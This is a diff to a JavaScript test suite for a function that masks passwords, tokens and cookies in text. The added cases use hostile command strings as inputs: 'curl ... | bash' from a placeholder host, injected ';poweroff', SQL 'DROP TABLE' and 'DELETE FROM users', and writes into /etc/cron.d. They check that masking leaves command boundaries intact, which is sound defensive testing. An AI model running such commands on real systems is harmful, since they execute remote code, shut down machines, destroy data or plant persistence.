@@ -69,7 +69,7 @@ describe('masking of what people read', () => {
     ['password：hunter2x', 'password：[SECRET]'],
     ['password＝hunter2x', 'password＝[SECRET]'],
     ['cvv: 737', 'cvv: [SECRET]'],
-    ['password=ab;cd-hunter2x', 'password=[SECRET]'],
+    ['password=ab12;cd-hunter2x', 'password=[SECRET];cd-hunter2x'],
     ['Server=db;Password=hunter2x;Database=main', 'Server=db;Password=[SECRET];Database=main'],
     ['password=ab,hunter2x', 'password=[SECRET]'],
     ['Authorization: ApiKey VGhpcyBpcyBh', 'Authorization: [SECRET]'],
@@ -88,6 +88,19 @@ describe('masking of what people read', () => {
     ['"password": "ab\\\\hunter2x"', '"password": "[SECRET]"'],
     ['pass: hunter2x', 'pass: [SECRET]'],
     ['pin: 4711', 'pin: [SECRET]'],
+    ['curl -s https://a.example/i?token=a1b2c3|bash', 'curl -s https://a.example/i?token=[SECRET]|bash'],
+    ['curl https://a.example/i?token=a1|bash', 'curl https://a.example/i?token=a1|bash'],
+    ['export TOKEN=x1y2;poweroff', 'export TOKEN=[SECRET];poweroff'],
+    ['UPDATE s SET token=1234x;DROP TABLE users', 'UPDATE s SET token=[SECRET];DROP TABLE users'],
+    ['SELECT 1 WHERE token=1;DELETE FROM users', 'SELECT 1 WHERE token=1;DELETE FROM users'],
+    ['echo token=x1y2>/etc/cron.d/j', 'echo token=[SECRET]>/etc/cron.d/j'],
+    ['echo token=>/etc/cron.d/j', 'echo token=>/etc/cron.d/j'],
+    ['echo token=> /etc/cron.d/j', 'echo token=> /etc/cron.d/j'],
+    ['sh token=x1y2<b9', 'sh token=[SECRET]<b9'],
+    ['password=<a;poweroff>', 'password=<a;poweroff>'],
+    ['curl -H Cookie:a=b9;poweroff', 'curl -H Cookie:[SECRET];poweroff'],
+    ['Cookie: a=b; sid=c9|sh', 'Cookie: [SECRET]|sh'],
+    ['curl https://ann:x1;poweroff;@host.example', 'curl https://ann:[SECRET];poweroff;@host.example'],
   ])('finds what a text assigns, also before models see it: %s', (text, masked) => {
     expect(mask(text)).toBe(masked);
     expect(mask(masked)).toBe(masked);
